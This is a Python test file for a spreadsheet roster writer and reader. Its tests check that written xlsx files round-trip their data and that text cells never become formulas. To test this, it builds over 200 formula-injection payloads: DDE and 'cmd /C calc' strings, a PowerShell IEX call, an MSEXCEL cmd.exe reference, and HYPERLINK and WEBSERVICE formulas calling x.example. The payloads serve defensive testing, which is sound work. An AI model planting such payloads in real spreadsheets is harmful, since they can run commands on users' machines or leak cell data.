"""What is written is text for every program, and comes back equal."""

import datetime as dt
import itertools
import re
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import polars as pl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from polars.testing import assert_frame_equal

from shibaiqian.base.spreadsheets import Column, ColumnKind
from shibaiqian.base.spreadsheets.cells import CODE_PATTERN, tidy_text
from shibaiqian.base.spreadsheets.id_numbers import CHECKS, WEIGHTS
from shibaiqian.base.spreadsheets.reading import read_roster
from shibaiqian.base.spreadsheets.tests.rosters import COLUMNS, ID, read_here
from shibaiqian.base.spreadsheets.writing import SLICE, write_roster

# As a clock on the wall shows it: a roster says no zone.
moment = dt.datetime.fromisoformat

NOTE = Column("note", "备注")
TOLD = Column("told", "登记时间", ColumnKind.MOMENT)
WRITTEN = (*COLUMNS, NOTE, TOLD)
ROW: dict[str, Any] = {
    "name": "张三",
    "id_number": ID,
    "sex": "male",
    "born": dt.date(1949, 12, 31),
    "since": dt.date(1970, 5, 1),
    "size": 4,
    "land": 3.5,
    "wage": 123456,
    "poor": True,
    "causes": "ill|disabled",
    "code": "0011",
    "note": None,
    "told": moment("2016-03-01 20:15"),
}
NAMES = [column.name for column in WRITTEN]
STARTS = [
    "=",
    "+",
    "-",
    "@",
    "＝",
    "＋",
    "－",
    "＠",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\x01=",
    "\x00+",
    "\x1f@",
    "\u3000=",
    "'=",
    "''=",
    "\t",
    "%0A=",
]
BODIES = [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.example/?"&A1,"点")',
    "SUM(A1:A9)*cmd|' /C calc'!A0",
    'WEBSERVICE("http://x.example")',
    'DDE("cmd";"/C calc";"a")',
    "A1",
    "IMPORTXML(A1,B1)",
    "2+5+cmd|' /C powershell IEX'!A0",
    "MSEXCEL|'\\..\\..\\cmd.exe'!''",
    "_x0041_<&>\"'",
]
PAYLOADS = ["".join(pair) for pair in itertools.product(STARTS, BODIES)]


def frame_of(*rows: dict[str, Any]) -> pl.DataFrame:
    return pl.DataFrame({c.name: pl.Series([{**ROW, **row}[c.name] for row in rows], dtype=c.dtype) for c in WRITTEN})


def test_a_written_roster_opens_in_another_program_as_text(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    count = write_roster(
        path,
        columns=WRITTEN,
        frame_or_rows=frame_of({}, {"poor": False, "wage": -5, "size": None}),
        title="贫困户名册",
        criteria="柞水县",
        watermark="张三 & 2016-06-08",
    )
    page = openpyxl.load_workbook(path).active
    assert count == 2 and page.title == "贫困户名册" and page.freeze_panes == "A4" and page.dimensions == "A1:M5"
    assert page["A1"].value == "贫困户名册" and page["A2"].value == "柞水县    张三 & 2016-06-08"
    assert [cell.value for cell in page[3]][:3] == ["姓名*", "身份证号*", "性别"]
    assert [cell.value for cell in page[4]] == [
        "张三",
        ID,
        "男",
        "1949-12-31",
        "1970-05",
        4,
        3.5,
        1234.56,
        "是",
        "因病、因残",
        "0011",
        None,
        "2016-03-01 20:15",
    ]
    assert (page["H5"].value, page["I5"].value, page["F5"].value) == (-0.05, "否", None)
    assert (page["B4"].number_format, page["H4"].number_format, page["D4"].data_type) == ("@", "0.00", "s")
    assert [entry.name for entry in tmp_path.iterdir()] == ["a.xlsx"]


def test_an_empty_roster_is_a_blank_form(tmp_path: Path) -> None:
    write_roster(tmp_path / "a.xlsx", columns=WRITTEN, frame_or_rows=[])
    page = openpyxl.load_workbook(tmp_path / "a.xlsx").active
    assert page.max_row == 1 and page.column_dimensions["B"].width > 20


def test_no_payload_becomes_a_formula_and_each_comes_back(tmp_path: Path) -> None:
    assert len(PAYLOADS) >= 200
    path = tmp_path / "a.xlsx"
    texts = [column for column in WRITTEN if column.kind is ColumnKind.TEXT]
    write_roster(
        path,
        columns=texts,
        frame_or_rows=[{"name": text, "note": text} for text in PAYLOADS],
        title=PAYLOADS[0],
        criteria=PAYLOADS[1],
        watermark="=x",
    )
    book = openpyxl.load_workbook(path)
    for row in book.active.iter_rows():
        for cell in row:
            assert cell.data_type == "s" or cell.value is None
            assert not re.match(r"[\s\x00-\x1f]*[=+\-@＝＋－＠]", cell.value or ""), cell.value
    with zipfile.ZipFile(path) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    back = read_roster(path, columns=texts).frame
    expected = [re.sub(r"[\x00-\x08\x0e-\x1f]", "", text).strip() for text in PAYLOADS]
    assert back["name"].to_list() == expected and back["note"].to_list() == expected


def _checked(body: str) -> str:
    return body + CHECKS[sum(int(digit) * weight for digit, weight in zip(body, WEIGHTS, strict=True)) % 11]


def _tidy(text: str) -> str | None:
    """The fixed point of reading: what a frame that was read can hold."""
    value: str | None = text
    while value is not None and value != (again := tidy_text(value).value):
        value = again
    return value


dates = st.dates(dt.date(1900, 1, 1), dt.date(2099, 12, 31))
texts = st.text(st.characters(exclude_categories=["Cs"]), max_size=20).map(_tidy)
ids = st.builds(
    lambda region, born, order: _checked(f"{region}{born:%Y%m%d}{order:03}"),
    st.integers(110000, 659999),
    dates,
    st.integers(0, 999),
)
rows = st.fixed_dictionaries(
    {
        "name": texts.filter(bool),
        "id_number": ids,
        "sex": st.sampled_from(["male", "female", None]),
        "born": dates | st.none(),
        "since": dates.map(lambda date: date.replace(day=1)) | st.none(),
        "size": st.integers(-(10**12), 10**12) | st.none(),
        "land": st.integers(-(10**9), 10**9).map(lambda hundredths: hundredths / 100) | st.none(),
        "wage": st.integers(-(10**12), 10**12) | st.none(),
        "poor": st.booleans() | st.none(),
        "causes": st.lists(st.sampled_from(["ill", "disabled", "school"]), min_size=1, unique=True).map("|".join) | st.none(),
        "code": st.from_regex(CODE_PATTERN, fullmatch=True).filter(
            lambda code: (
                not re.search(r"\.0+$|^\d(\.\d+)?[eE]\d+$|^NA$|^N/A$", code) and code not in ("NULL", "null", "None", "nan", "NaN", "n/a")
            )
        )
        | st.none(),
        "note": texts,
        "told": st.datetimes(moment("1900-01-01 00:00"), moment("2099-12-31 00:00")).map(lambda told: told.replace(second=0, microsecond=0))
        | st.none(),
    }
)


@settings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(rows, min_size=1, max_size=6))
def test_what_is_written_is_read_back_equal(tmp_path: Path, said: list[dict[str, Any]]) -> None:
    frame = frame_of(*said)
    write_roster(tmp_path / "a.xlsx", columns=WRITTEN, frame_or_rows=frame, title="名册")
    reading = read_here(tmp_path / "a.xlsx", WRITTEN)
    assert not reading.findings.has_refusals, list(map(str, reading.findings))
    assert_frame_equal(reading.frame.select(NAMES), frame)


def test_more_than_one_slice_comes_back_through_the_child(tmp_path: Path) -> None:
    frame = pl.concat([frame_of({})] * (2 * SLICE + 7)).with_columns(size=pl.int_range(pl.len()))
    write_roster(tmp_path / "a.xlsx", columns=WRITTEN, frame_or_rows=frame, title="名册", criteria="全部")
    reading = read_roster(tmp_path / "a.xlsx", columns=WRITTEN)
    assert_frame_equal(reading.frame.select(NAMES), frame)
    assert (reading.frame["row"][0], reading.frame["row"][-1], len(reading.findings)) == (4, 2 * SLICE + 10, 0)


def test_a_code_without_a_label_is_a_mistake_of_the_caller(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="no label"):
        write_roster(tmp_path / "a.xlsx", columns=WRITTEN, frame_or_rows=[{**ROW, "sex": "unknown"}])
    assert list(tmp_path.iterdir()) == []
